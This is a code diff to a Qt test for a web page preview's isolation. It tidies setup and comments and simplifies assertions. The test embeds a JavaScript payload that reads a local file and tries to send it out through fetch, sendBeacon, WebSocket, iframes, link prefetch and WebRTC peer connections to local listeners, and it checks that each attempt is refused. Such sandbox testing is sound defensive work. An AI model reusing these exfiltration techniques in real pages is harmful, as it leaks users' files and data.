@@ -46,9 +46,15 @@ class TestPreview : public QObject
 {
     Q_OBJECT
 
+public:
+    static void initMain()
+    {
+        relaxWebEngineSandboxForRoot();
+        QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
+    }
+
 private slots:
-    // Only a page saved as it is shows; otherwise the user is told, and the tab stays where the
-    // user put it, empty.
+    // Only a page saved as it is shows; else the user is told, and the tab stays, empty.
     void saveFirst_data()
     {
         QTest::addColumn<bool>("saved");
@@ -81,12 +87,10 @@ private slots:
     {
         QTcpServer web;
         QVERIFY(web.listen(QHostAddress::LocalHost));
-        QSignalSpy webCalls(&web, &QTcpServer::newConnection);
         QUdpSocket datagrams;
         QVERIFY(datagrams.bind(QHostAddress::LocalHost));
-        // The reads come back in the title; once all is settled, the page navigates away from
-        // itself, the last way out. window.open used to hand back a window kept out of sight,
-        // still running the page.
+        // The reads come back in the title; once all settled, the page leaves itself, the last way
+        // out. window.open used to hand back a window kept out of sight, still running the page.
         const QString attack = QStringLiteral(R"(
 var H = 'http://127.0.0.1:%1/', s = '', left = 10, results = [];
 function settled() {
@@ -107,11 +111,9 @@ fetch('dentro.txt').then(r => r.text()).then(t => {
   fetch(H + 'fetch', {method: 'POST', body: t}).finally(settled);
   add(document.body, 'iframe', {onload: settled, src: H + 'iframe?d=' + s});
   navigator.sendBeacon(H + 'beacon', t);
-  var w = new WebSocket(H.replace('http', 'ws') + 'websocket?d=' + s);
-  w.onopen = w.onerror = settled;
+  var w = new WebSocket(H.replace('http', 'ws') + 'websocket?d=' + s); w.onopen = w.onerror = settled;
   add(document.head, 'link', {rel: 'prefetch', href: H + 'prefetch', onload: settled, onerror: settled});
-  for (var rel of ['preconnect', 'dns-prefetch', 'icon'])
-    add(document.head, 'link', {rel: rel, href: H + rel});
+  ['preconnect', 'dns-prefetch', 'icon'].forEach(rel => add(document.head, 'link', {rel, href: H + rel}));
   // Peer connections reach their servers without any request the browser could refuse.
   // A frame of its own is a fresh window, with every constructor in it.
   var Peer = add(document.body, 'iframe', {}).contentWindow.RTCPeerConnection || RTCPeerConnection;
@@ -146,14 +148,9 @@ fetch('dentro.txt').then(r => r.text()).then(t => {
         // Once the page has gone, every request it made has been answered or dropped.
         QTRY_VERIFY_WITH_TIMEOUT(!loads.isEmpty() && !loads.last().first().toBool(), 60000);
         QCoreApplication::processEvents();
-        QCOMPARE(webCalls.size() + web.hasPendingConnections() + datagrams.hasPendingDatagrams(),
-                 0);
-        QStringList seen;
-        for (const QList<QVariant> &title : titles)
-            seen.append(title.first().toString());
-        QVERIFY2(seen.contains(QStringLiteral("above:rechazado,absolute:rechazado,beside:DENTRO,"
-                                              "link:rechazado,window:rechazado")),
-                 qPrintable(seen.join(u'|')));
+        QCOMPARE(web.hasPendingConnections() + datagrams.hasPendingDatagrams(), 0);
+        QVERIFY(titles.contains(QVariantList{QStringLiteral(
+            "above:rechazado,absolute:rechazado,beside:DENTRO,link:rechazado,window:rechazado")}));
         // Every way out was tried, and the seal refused each one itself.
         QSet<QString> tried;
         for (const QList<QVariant> &address : refused)
@@ -198,13 +195,5 @@ fetch('dentro.txt').then(r => r.text()).then(t => {
     }
 };
 
-int main(int argc, char *argv[])
-{
-    relaxWebEngineSandboxForRoot();
-    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
-    QApplication application(argc, argv);
-    TestPreview test;
-    return QTest::qExec(&test, argc, argv);
-}
-
+QTEST_MAIN(TestPreview)
 #include "tst_preview.moc"
